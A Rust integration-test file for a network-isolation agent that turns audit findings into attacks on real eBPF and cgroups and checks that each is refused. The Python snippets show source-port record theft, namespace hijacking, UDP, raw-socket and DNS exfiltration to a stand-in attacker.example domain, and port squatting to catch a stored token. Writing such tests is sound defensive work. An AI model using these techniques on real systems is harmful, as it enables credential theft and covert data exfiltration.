//! A hostile loop (unprivileged, tagged) and an ordinary local user try to
//! borrow another workload's identity or reach past the agent: issue 9's
//! findings, each made as an attack against real eBPF on real cgroups.

use std::{
    io::Read,
    net::{TcpStream, UdpSocket},
    process::{Command, Stdio},
    time::Duration,
};

use loopgate_e2e::*;

/// A tagged loop that binds the source port it is given and connects.
const CONNECT_FROM: &str = r#"
import socket, sys
host, port, sport = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", sport))
s.settimeout(5)
try:
    s.connect((host, port))
    print("connected")
except OSError as e:
    print("refused", e.errno)
"#;

/// Finding 1: records left by connects made while the agent was down used to
/// be claimable by any local user connecting from the same source port.
#[test]
fn a_stale_record_cannot_be_claimed_by_an_untagged_user() {
    let echo = EchoServer::start("127.10.9.1");
    let mut agent =
        Agent::start(AgentSpec::new("stale").target("victim-db", &echo.addr.to_string(), "tcp"));
    agent.kill9();
    // The victim's connects fail while the agent is down (fail closed)...
    let sports: Vec<u16> = (0..3).map(|_| free_port()).collect();
    for &sport in &sports {
        let out = agent.python(
            "victim",
            CONNECT_FROM,
            &[
                "127.10.9.1",
                &echo.addr.port().to_string(),
                &sport.to_string(),
            ],
        );
        assert!(
            stdout(&out).starts_with("refused"),
            "the agent is down: {}{}",
            stdout(&out),
            stderr(&out)
        );
    }
    agent.spawn();
    // ...and an ordinary user connecting from those source ports to the
    // proxy is served as no one.
    for &sport in &sports {
        let script = format!(
            "import socket\ns=socket.socket()\ns.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\ns.bind(('127.0.0.1',{}))\ns.settimeout(5)\ntry:\n    s.connect(('127.0.0.1',{}))\n    s.sendall(b'steal')\n    print('got', s.recv(16))\nexcept OSError as e:\n    print('reset', e.errno)\n",
            sport,
            agent.port
        );
        let out = Command::new("setpriv")
            .args(["--reuid=nobody", "--regid=nogroup", "--clear-groups"])
            .args(["/usr/bin/python3", "-c", &script])
            .output()
            .unwrap();
        let o = stdout(&out);
        assert!(
            o.starts_with("got b''") || o.starts_with("reset"),
            "the untagged user was served: {o}{}",
            stderr(&out)
        );
    }
    assert_eq!(
        echo.accepted(),
        0,
        "the attacker reached the victim's target"
    );
    let s = agent.wait_sessions("the attempts recorded as unidentified", |s| {
        s.iter()
            .filter(|r| r["workload"] == "(unidentified)")
            .count()
            >= 3
    });
    assert!(
        s.iter().all(|r| r["workload"] != "victim"),
        "nothing was recorded as the victim: {s:#?}"
    );
}

/// A loop that keeps connecting from its own network namespace.
const NETNS_LOOP: &str = r#"
import socket, sys, errno
host, port, n = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
codes = set()
for _ in range(n):
    s = socket.socket()
    s.settimeout(2)
    try:
        s.connect((host, port))
        codes.add("connected")
    except OSError as e:
        codes.add(errno.errorcode.get(e.errno, str(e.errno)))
    s.close()
print(",".join(sorted(codes)))
"#;

const VICTIM: &str = r#"
import socket, sys
host, port, n = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
ok = 0
for i in range(n):
    s = socket.create_connection((host, port), timeout=5)
    msg = b"victim-%d" % i
    s.sendall(msg)
    if s.recv(64) == msg:
        ok += 1
    s.close()
print(ok)
"#;

/// Finding 2: a loop in its own network namespace rewrote the records of
/// the host's next source ports. Its connects are now refused in the kernel.
#[test]
fn a_loop_in_its_own_network_namespace_is_refused_and_cannot_hijack() {
    let victim_srv = EchoServer::start("127.10.9.2");
    let attacker_srv = EchoServer::start("127.10.9.3");
    let agent = Agent::start(
        AgentSpec::new("netns")
            .target("victim-api", &victim_srv.addr.to_string(), "tcp")
            .target("attacker-api", &attacker_srv.addr.to_string(), "tcp"),
    );
    let script = agent.path("netns-loop.py");
    std::fs::write(&script, NETNS_LOOP).unwrap();
    set_mode(&script, 0o644);
    let attacker = agent
        .command()
        .args(["exec", "--workload", "attacker", "--"])
        .args(["unshare", "-Urn", "sh", "-c"])
        .arg(format!(
            "ip link set lo up && /usr/bin/python3 {} 127.10.9.3 {} 300",
            script.display(),
            attacker_srv.addr.port()
        ))
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let victim = agent.python(
        "victim",
        VICTIM,
        &["127.10.9.2", &victim_srv.addr.port().to_string(), "200"],
    );
    let attacker = attacker.wait_with_output().unwrap();
    assert_eq!(
        stdout(&attacker).trim(),
        "EPERM",
        "connects from another namespace must fail with EPERM: {}{}",
        stdout(&attacker),
        stderr(&attacker)
    );
    assert_eq!(
        stdout(&victim).trim(),
        "200",
        "every victim connection reached its own target: {}",
        stderr(&victim)
    );
    assert_eq!(victim_srv.accepted(), 200);
    assert_eq!(attacker_srv.accepted(), 0);
    let s = agent.wait_sessions("the namespace denials recorded", |s| {
        s.iter()
            .any(|r| r["workload"] == "attacker" && r["outcome"] == "denied")
    });
    assert!(
        s.iter()
            .all(|r| r["workload"] != "attacker" || r["outcome"] == "denied"),
        "no attacker session was served: {s:#?}"
    );
    let replay = replay_of(
        &agent,
        s.iter().find(|r| r["workload"] == "attacker").unwrap(),
    );
    assert!(replay.contains("identity:netns"), "{replay}");
}

fn replay_of(agent: &Agent, row: &Value) -> String {
    let out = agent.cli(&["replay", row["session_id"].as_str().unwrap()]);
    assert!(out.status.success(), "{}", stderr(&out));
    stdout(&out)
}

const UDP: &str = r#"
import socket, sys, errno
host, port = sys.argv[1], int(sys.argv[2])
res = []
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    u.sendto(b"exfil-sendto", (host, port)); res.append("sendto:sent")
except OSError as e:
    res.append("sendto:" + errno.errorcode.get(e.errno, str(e.errno)))
c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    c.connect((host, port)); c.send(b"exfil-connected"); res.append("connect:sent")
except OSError as e:
    res.append("connect:" + errno.errorcode.get(e.errno, str(e.errno)))
print(" ".join(res))
"#;

/// Finding 5: egress deny let every UDP datagram out, and raw sockets too.
#[test]
fn egress_deny_covers_udp_and_raw_sockets() {
    let udp = UdpSocket::bind("127.10.9.4:0").unwrap();
    udp.set_read_timeout(Some(Duration::from_millis(500)))
        .unwrap();
    let port = udp.local_addr().unwrap().port();
    let agent = Agent::start(AgentSpec::new("udp").egress("deny"));
    let out = agent.python("exfil", UDP, &["127.10.9.4", &port.to_string()]);
    assert_eq!(
        stdout(&out).trim(),
        "sendto:EPERM connect:EPERM",
        "{}",
        stderr(&out)
    );
    let mut buf = [0u8; 64];
    assert!(udp.recv_from(&mut buf).is_err(), "a datagram got out");
    // A raw socket (in the loop's own user and network namespace, where it
    // holds CAP_NET_RAW) is refused at creation.
    let raw = agent.exec(
        "exfil",
        &[
            "unshare",
            "-Urn",
            "/usr/bin/python3",
            "-c",
            "import socket\ntry:\n    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); print('created')\nexcept OSError as e:\n    print('refused', e.errno)",
        ],
    );
    assert_eq!(stdout(&raw).trim(), "refused 1", "{}", stderr(&raw));
    let s = agent.wait_sessions("udp and raw denials recorded", |s| {
        s.iter().filter(|r| r["protocol"] == "udp").count() >= 2
            && s.iter().any(|r| r["protocol"] == "raw")
    });
    assert!(s.iter().all(|r| r["outcome"] == "denied"), "{s:#?}");
}

/// Finding 7: any service on any 127/8 address at the proxy's port number was
/// reachable under egress deny.
#[test]
fn the_proxy_port_exemption_covers_only_the_proxy() {
    let agent = Agent::start(AgentSpec::new("pxport").egress("deny"));
    // A service on another loopback address, at the proxy's port number.
    let l = std::net::TcpListener::bind(("127.10.9.5", agent.port)).unwrap();
    l.set_nonblocking(true).unwrap();
    let out = agent.python(
        "sneaky",
        CONNECT_TO,
        &["127.10.9.5", &agent.port.to_string()],
    );
    assert_eq!(stdout(&out).trim(), "EPERM", "{}", stderr(&out));
    assert!(l.accept().is_err(), "the service was reached");
    // The proxy itself stays reachable (and refuses a connection without a record).
    let out = agent.python(
        "sneaky",
        CONNECT_TO,
        &["127.0.0.1", &agent.port.to_string()],
    );
    // (the proxy resets it at once, possibly before connect() returns)
    let o = stdout(&out);
    assert!(
        o.trim() == "connected" || o.trim() == "ECONNRESET",
        "{o}{}",
        stderr(&out)
    );
}

const CONNECT_TO: &str = r#"
import socket, sys, errno
s = socket.socket()
s.settimeout(5)
try:
    s.connect((sys.argv[1], int(sys.argv[2]))); print("connected")
except OSError as e:
    print(errno.errorcode.get(e.errno, str(e.errno)))
"#;

const BIND: &str = r#"
import socket, sys, errno
res = []
for host, port in [(sys.argv[1], int(sys.argv[2])), ("0.0.0.0", int(sys.argv[2])), ("127.0.0.1", int(sys.argv[3])), ("127.0.0.1", 0)]:
    s = socket.socket()
    try:
        s.bind((host, port)); res.append("ok")
    except OSError as e:
        res.append(errno.errorcode.get(e.errno, str(e.errno)))
print(" ".join(res))
"#;

/// Finding 8: a loop could listen on a local target's address while its
/// server is down and receive the stored credential.
#[test]
fn a_loop_cannot_listen_on_a_target_or_the_proxy_port() {
    let port = free_port();
    let agent = Agent::start(AgentSpec::new("bind").target(
        "down-api",
        &format!("127.10.9.6:{port}"),
        "http",
    ));
    let out = agent.python(
        "squatter",
        BIND,
        &["127.10.9.6", &port.to_string(), &agent.port.to_string()],
    );
    assert_eq!(
        stdout(&out).trim(),
        "EPERM EPERM EPERM ok",
        "target address, wildcard on the target port, proxy port, ephemeral: {}",
        stderr(&out)
    );
    let s = agent.wait_sessions("bind denials recorded", |s| {
        s.iter()
            .filter(|r| r["workload"] == "squatter" && r["outcome"] == "denied")
            .count()
            >= 3
    });
    let replay = replay_of(
        &agent,
        s.iter().find(|r| r["workload"] == "squatter").unwrap(),
    );
    assert!(replay.contains("bind:target"), "{replay}");
}

/// A tagged loop that listens and reports what it receives.
const LISTENER: &str = r#"
import socket, sys
l = socket.socket()
l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
l.bind((sys.argv[1], int(sys.argv[2])))
l.listen(8)
print("listening", flush=True)
l.settimeout(20)
got = b""
try:
    while True:
        c, _ = l.accept()
        c.settimeout(2)
        try:
            got = c.recv(65536)
        except OSError:
            got = b""
        print("received", got.decode(errors="replace").replace("\n", "|"), flush=True)
        c.close()
except OSError:
    pass
"#;

/// Finding 8, second half: a listener that a tagged loop made before the
/// address became a target gets no credential.
#[test]
fn a_tagged_listener_at_a_target_address_gets_no_credential() {
    use std::io::BufRead;
    let port = free_port();
    let mut agent = Agent::start(AgentSpec::new("squat"));
    let script = agent.path("listener.py");
    std::fs::write(&script, LISTENER).unwrap();
    set_mode(&script, 0o644);
    let mut squatter = agent.spawn_exec(
        "squatter",
        &[
            "/usr/bin/python3",
            script.to_str().unwrap(),
            "127.10.9.7",
            &port.to_string(),
        ],
    );
    let mut lines = std::io::BufReader::new(squatter.stdout.take().unwrap()).lines();
    assert_eq!(lines.next().unwrap().unwrap(), "listening");
    // The address becomes an HTTP target with a stored token.
    let token = agent.path("token");
    std::fs::write(&token, "s3cr3t-squat-token\n").unwrap();
    let cfg = std::fs::read_to_string(&agent.config).unwrap();
    std::fs::write(
        &agent.config,
        format!(
            "{cfg}\n[[targets]]\nname = \"api\"\naddress = \"127.10.9.7:{port}\"\nprotocol = \"http\"\n[targets.credential]\ntoken_file = \"{}\"\n",
            token.display()
        ),
    )
    .unwrap();
    assert!(agent.terminate());
    agent.spawn();
    let out = agent.exec(
        "client",
        &[
            "curl",
            "-sS",
            "-m",
            "5",
            &format!("http://127.10.9.7:{port}/orders"),
        ],
    );
    assert!(
        !out.status.success(),
        "the request went through: {}",
        stdout(&out)
    );
    // SAFETY: kill(2) on our own child.
    unsafe { libc::kill(squatter.id() as i32, libc::SIGTERM) };
    let _ = squatter.kill();
    let _ = squatter.wait();
    let rest: Vec<String> = lines.map_while(Result::ok).collect();
    assert!(
        !rest.join("\n").contains("s3cr3t-squat-token"),
        "the squatter received the stored token: {rest:?}"
    );
    let s = agent.wait_sessions("the refusal recorded", |s| {
        s.iter()
            .any(|r| r["workload"] == "client" && r["outcome"] == "denied")
    });
    let replay = replay_of(
        &agent,
        s.iter().find(|r| r["workload"] == "client").unwrap(),
    );
    assert!(replay.contains("listener:tagged"), "{replay}");
    assert!(!agent.log().contains("s3cr3t-squat-token"));
}

/// Finding 9: the proxy listeners.
#[test]
fn proxy_listeners_are_both_required_privileged_and_deep() {
    // A port any user could bind is refused unless explicitly allowed.
    let dir = tempfile::tempdir().unwrap();
    let cfg = dir.path().join("agent.toml");
    std::fs::write(
        &cfg,
        format!(
            "[agent]\ncgroup_root = \"lgt-unpriv\"\nproxy_port = {}\nadmin_socket = \"{d}/a.sock\"\nstate_dir = \"{d}/state\"\npolicies = \"{d}/p\"\n",
            free_port(),
            d = dir.path().display()
        ),
    )
    .unwrap();
    std::fs::create_dir_all(dir.path().join("p")).unwrap();
    let out = agent_must_exit(&cfg);
    assert!(!out.status.success());
    assert!(
        stderr(&out).contains("ip_unprivileged_port_start"),
        "{}",
        stderr(&out)
    );
    remove_cgroup_tree(&cgroup2_mount().join("lgt-unpriv"));

    // Both listeners with the same deep backlog.
    let agent = Agent::start(AgentSpec::new("backlog"));
    let ss = Command::new("ss")
        .args(["-Hltn", &format!("sport = :{}", agent.port)])
        .output()
        .unwrap();
    let ss = stdout(&ss);
    let backlogs: Vec<&str> = ss
        .lines()
        .filter_map(|l| l.split_whitespace().nth(2))
        .collect();
    assert_eq!(backlogs, vec!["4096", "4096"], "{ss}");

    // A squatted [::1] port stops the agent instead of leaving IPv6 to the squatter.
    let squat = std::net::TcpListener::bind(("::1", 0)).unwrap();
    let port = squat.local_addr().unwrap().port();
    let cfg2 = dir.path().join("agent2.toml");
    std::fs::write(
        &cfg2,
        format!(
            "[agent]\ncgroup_root = \"lgt-v6squat\"\nproxy_port = {port}\nallow_unprivileged_port = true\nadmin_socket = \"{d}/b.sock\"\nstate_dir = \"{d}/state2\"\npolicies = \"{d}/p\"\n",
            d = dir.path().display()
        ),
    )
    .unwrap();
    let out = agent_must_exit(&cfg2);
    assert!(!out.status.success(), "the agent started without [::1]");
    assert!(stderr(&out).contains("[::1]"), "{}", stderr(&out));
    remove_cgroup_tree(&cgroup2_mount().join("lgt-v6squat"));
    drop(squat);
    let _ = TcpStream::connect(("127.0.0.1", agent.port)).map(|mut s| {
        let mut b = [0u8; 1];
        let _ = s.read(&mut b);
    });
}

/// Runs `loopgate agent` with `cfg` and expects it to exit within 20 s.
fn agent_must_exit(cfg: &std::path::Path) -> std::process::Output {
    let mut child = Command::new(loopgate_bin())
        .arg("--config")
        .arg(cfg)
        .arg("agent")
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let deadline = std::time::Instant::now() + Duration::from_secs(20);
    while child.try_wait().unwrap().is_none() {
        if std::time::Instant::now() > deadline {
            let _ = child.kill();
            let out = child.wait_with_output().unwrap();
            panic!("the agent started and kept running: {}", stderr(&out));
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    child.wait_with_output().unwrap()
}

/// A real DNS server (Debian's dnsmasq) on a loopback address, answering
/// `name=address` pairs and nothing else; stopped on drop.
struct Dnsmasq(std::process::Child);

impl Dnsmasq {
    fn start(listen: &str, records: &[(&str, &str)]) -> Dnsmasq {
        let mut cmd = Command::new("/usr/sbin/dnsmasq");
        cmd.args([
            "--keep-in-foreground",
            "--no-resolv",
            "--no-hosts",
            "--bind-interfaces",
            "--port=53",
            "--user=root",
            "--pid-file",
        ])
        .arg(format!("--listen-address={listen}"));
        for (name, addr) in records {
            cmd.arg(format!("--host-record={name},{addr}"));
        }
        let child = cmd
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("dnsmasq (cargo xtask setup installs dnsmasq-base)");
        // Ready when it answers on TCP.
        let deadline = std::time::Instant::now() + Duration::from_secs(10);
        while TcpStream::connect((listen, 53)).is_err() {
            assert!(
                std::time::Instant::now() < deadline,
                "dnsmasq did not start"
            );
            std::thread::sleep(Duration::from_millis(50));
        }
        Dnsmasq(child)
    }
}

impl Drop for Dnsmasq {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// A loop that resolves names with the system resolver (glibc, from a
/// resolv.conf that names `RESOLVER`), then asks a resolver directly over
/// UDP and TCP with hand-made queries.
const DNS_LOOP: &str = r#"
import socket, struct, sys
def q(name, qid=0x4242):
    h = struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0)
    return h + b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0" + struct.pack(">HH", 1, 1)
def rcode(m): return m[3] & 0x0f
out = []
for name in sys.argv[2:]:
    try:
        out.append("%s=%s" % (name, socket.getaddrinfo(name, 80, socket.AF_INET)[0][4][0]))
    except socket.gaierror as e:
        out.append("%s=fail" % name)
res = sys.argv[1]
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.settimeout(5)
u.sendto(q("exfil-abcdef.attacker.example"), (res, 53))
m, src = u.recvfrom(4096)
out.append("udp-rcode=%d from=%s:%d" % (rcode(m), src[0], src[1]))
t = socket.create_connection((res, 53), timeout=5)
t.sendall(struct.pack(">H", len(q("db.internal"))) + q("db.internal"))
n = struct.unpack(">H", t.recv(2))[0]
m = t.recv(n)
out.append("tcp-rcode=%d answer=%s" % (rcode(m), socket.inet_ntoa(m[-4:])))
print(" ".join(out))
"#;

/// Finding 6: a tagged loop's DNS goes through the agent's resolver, which
/// answers allowed names, refuses the rest and records every query.
#[test]
fn dns_of_tagged_loops_is_judged_answered_and_recorded() {
    let _dns = Dnsmasq::start(
        "127.10.9.30",
        &[
            ("db.internal", "127.10.9.31"),
            ("api.corp.example", "127.10.9.32"),
            ("exfil-abcdef.attacker.example", "127.10.9.99"),
            ("leak.attacker.example", "127.10.9.99"),
        ],
    );
    let agent = Agent::start(
        AgentSpec::new("dns")
            .egress("deny")
            .agent_key("dns_allow = [\"db.internal\", \"*.corp.example\"]")
            .agent_key("dns_upstreams = [\"127.10.9.30:53\"]"),
    );
    // The loop's own resolv.conf names a loopback address nobody serves:
    // every query it makes must reach the agent to be answered at all.
    let conf = agent.path("resolv.conf");
    std::fs::write(
        &conf,
        "nameserver 127.10.9.33\noptions attempts:1 timeout:2\n",
    )
    .unwrap();
    set_mode(&conf, 0o644);
    let script = agent.path("dns-loop.py");
    std::fs::write(&script, DNS_LOOP).unwrap();
    set_mode(&script, 0o644);
    let out = agent.exec(
        "resolver-user",
        &[
            "unshare",
            "-Urm",
            "sh",
            "-c",
            &format!(
                "mount --bind {} /etc/resolv.conf && /usr/bin/python3 {} 127.10.9.33 db.internal api.corp.example leak.attacker.example",
                conf.display(),
                script.display()
            ),
        ],
    );
    assert_eq!(
        stdout(&out).trim(),
        "db.internal=127.10.9.31 api.corp.example=127.10.9.32 leak.attacker.example=fail \
         udp-rcode=5 from=127.10.9.33:53 tcp-rcode=0 answer=127.10.9.31",
        "{}",
        stderr(&out)
    );
    // Every query recorded under the loop's workload, with its verdict.
    let s = agent.wait_sessions("DNS sessions", |s| {
        s.iter()
            .filter(|r| r["protocol"] == "dns" && r["workload"] == "resolver-user")
            .count()
            >= 4
            && s.iter()
                .any(|r| r["protocol"] == "dns" && r["bytes_up"].as_u64().unwrap_or(0) > 0)
    });
    let dns: Vec<&Value> = s.iter().filter(|r| r["protocol"] == "dns").collect();
    let detail = |name: &str| {
        dns.iter()
            .find(|r| r["detail"].as_str().unwrap_or("").contains(name))
            .unwrap_or_else(|| panic!("no DNS record for {name}: {dns:#?}"))
    };
    assert_eq!(detail("leak.attacker.example")["outcome"], "denied");
    assert_eq!(detail("exfil-abcdef.attacker.example")["outcome"], "denied");
    let ok = detail("A db.internal");
    assert_eq!(ok["outcome"], "ok");
    assert!(
        ok["detail"].as_str().unwrap().contains("127.10.9.31"),
        "{ok}"
    );
    // The TCP query is an event of its proxied session.
    let tcp = dns
        .iter()
        .find(|r| r["bytes_up"].as_u64().unwrap_or(0) > 0)
        .unwrap_or_else(|| panic!("no DNS-over-TCP session: {dns:#?}"));
    let replay = replay_of(&agent, tcp);
    assert!(
        replay.contains("dns_query") && replay.contains("A db.internal"),
        "{replay}"
    );
}

/// A loop that connects (from a forked child too), sends, and exits at once:
/// the agent accepts after the process is gone.
const HIT_AND_RUN: &str = r#"
import os, socket, sys
host, port = sys.argv[1], int(sys.argv[2])
for i in range(10):
    pid = os.fork()
    s = socket.socket()
    try:
        s.connect((host, port))
        s.sendall(b"data")
    except OSError:
        pass
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)
print("done")
"#;

/// Finding 4: `exe` selectors read /proc/<pid>/exe at accept time, so a
/// process that exited (or exec'd) before the accept escaped an exe rule.
/// The kernel now records the image at exec (and fork) and the connect
/// carries it.
#[test]
fn exe_selectors_use_the_image_the_kernel_saw_at_connect() {
    let echo = EchoServer::start("127.10.9.40");
    let agent = Agent::start(
        AgentSpec::new("exe")
            .target("echo", &echo.addr.to_string(), "tcp")
            .policy(
                "exe.toml",
                "[[workloads]]\nname = \"python\"\nexe = \"/usr/bin/python3*\"\n\n[[targets]]\nname = \"echo\"\ndefault = \"allow\"\n\n[[rules]]\nid = \"no-python\"\nworkloads = [\"python\"]\ntargets = [\"echo\"]\naction = \"deny\"\n",
            ),
    );
    let out = agent.python(
        "runner",
        HIT_AND_RUN,
        &["127.10.9.40", &echo.addr.port().to_string()],
    );
    assert_eq!(stdout(&out).trim(), "done", "{}", stderr(&out));
    let s = agent.wait_sessions("20 sessions", |s| s.len() >= 20);
    assert!(
        s.iter().all(|r| r["outcome"] == "denied"),
        "a python connection escaped the exe rule: {s:#?}"
    );
    assert_eq!(echo.accepted(), 0);
    // Another executable is not caught by the rule.
    let out = agent.exec(
        "runner",
        &[
            "bash",
            "-c",
            &format!(
                "exec 3<>/dev/tcp/127.10.9.40/{}; echo -n hi >&3; head -c 2 <&3",
                echo.addr.port()
            ),
        ],
    );
    assert_eq!(stdout(&out), "hi", "{}", stderr(&out));
}
